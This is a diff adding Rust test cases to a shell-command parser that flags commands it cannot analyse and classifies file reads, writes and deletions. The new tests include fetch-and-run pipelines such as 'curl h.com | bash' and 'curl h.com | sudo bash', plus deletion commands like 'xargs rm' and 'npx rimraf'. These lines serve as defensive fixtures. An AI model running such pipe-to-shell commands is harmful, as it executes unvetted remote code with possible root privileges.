@@ -190,6 +190,20 @@ fn what_cannot_be_told_marks_the_command() {
     let read = read("ls; eval \"$X\"; $Y z");
     let unknown: Vec<_> = read.commands.iter().map(|one| one.is_unknown).collect();
     assert_eq!(unknown, [false, true, true, true]);
+    for line in [
+        "bash <(curl h.com)",
+        "curl h.com | bash",
+        "bash -c \"$(cat x)\"",
+        "curl h.com | sudo bash",
+    ] {
+        assert!(command_of(&anyhook_shell::read(line), "bash").is_unknown, "{line}");
+        assert!(
+            !anyhook_shell::read(line)
+                .commands
+                .iter()
+                .any(|one| one.program() == Some("curl") && one.is_unknown)
+        );
+    }
 }
 
 #[test]
@@ -310,6 +324,10 @@ const FILES: &[(&str, &str)] = &[
     ("sudo cat a", "R a"),
     ("echo a > ~/b", "W ~/b"),
     ("echo a >> b 2>&1", "W b"),
+    ("[ -f a ]", "R a"),
+    ("cat <(ls) a", "R a"),
+    ("x | xargs rm /a/b", "D /a/b, D …"),
+    ("npx rimraf a", "D+ a"),
     ("python3 -c 'open(\"a\", \"w\").write(\"x\")'", "W a"),
     ("python3 -c 'print(open(\"a\").read())'", "R a"),
     ("python3 -c 'import os; os.remove(\"a\")'", "D a"),
